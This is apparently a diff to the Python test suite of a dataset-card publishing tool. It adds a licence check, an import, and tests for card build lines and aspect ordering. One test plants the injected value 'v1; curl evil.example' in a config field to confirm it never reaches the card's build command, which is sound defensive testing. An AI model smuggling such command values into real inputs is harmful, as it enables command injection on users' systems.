@@ -28,11 +28,12 @@ from PIL import Image
 
 from cadvi_hub.cli import parse_settings
 from cadvi_hub.dataset_cards.contamination import Overlap, find_overlaps, image_id
+from cadvi_hub.dataset_cards.contents import read_configs
 from cadvi_hub.dataset_cards.licences import licences_of
 from cadvi_hub.dataset_cards.samples import draw_sample, picture_pair
 from cadvi_hub.errors import InputError
 from cadvi_hub.images import open_image
-from cadvi_hub.schema import cad_qa_features, instruct_features, message, v1_features
+from cadvi_hub.schema import Aspect, cad_qa_features, instruct_features, message, v1_features
 from cadvi_hub.sources import Drops
 from cadvi_hub.sources.formats import format_of
 
@@ -178,6 +179,7 @@ def test_licences_are_told_for_known_sources_only(hub: LoopbackHub, data: Path) 
     assert table[0].startswith("| &#60;script&#62;")
     assert table[0].endswith(" | see its source | see its source |")
     assert licences_of(["SVIT", "svit_mine"])[1][1].texts == "see its source"
+    assert licences_of(["CaD-Inst"])[0][1].texts == "MIT"
 
 
 def test_a_sample_shows_two_pictures_side_by_side_and_what_was_written(hub: LoopbackHub, data: Path) -> None:
@@ -253,6 +255,23 @@ def test_a_config_that_only_names_its_pictures_says_how_to_read_and_to_join_them
     assert [record.id for record in joined] == ["row-0", "row-1", "row-2"]
     pair = [open_image(pictures.read(name)["bytes"] or b"", name) for name in joined[2].images]
     assert [image.getpixel((0, 0)) for image in pair] == [(255, 0, 0), (0, 0, 255)]
+
+
+def test_a_build_record_puts_no_command_of_its_own_into_the_card(hub: LoopbackHub, data: Path) -> None:
+    rows = [v1_row(1, **referred("left.png", "right.png"))]
+    write_config(data / "v3", v1_features(), [rows], "train", {"config": "v1; curl evil.example"})
+    publish_data(data)
+    assert next(line for line in card_lines() if line.startswith("cadvi build")).startswith(
+        "cadvi build v3 --name v3 "
+    )
+
+
+def test_aspects_that_are_equally_frequent_stand_in_one_order_on_every_card(data: Path) -> None:
+    differences = [{"aspect": str(aspect), "text": "It differs."} for aspect in Aspect]
+    rows = [v1_row(1, differences=differences[::-1])]
+    write_config(data / "v3", v1_features(), [rows], "train", {})
+    config = next(config for config in read_configs(data) if config.name == "v3")
+    assert list(config.aspects) == sorted(map(str, Aspect))
 
 
 def test_images_without_a_name_are_counted(hub: LoopbackHub, data: Path, v1: list[Path]) -> None:
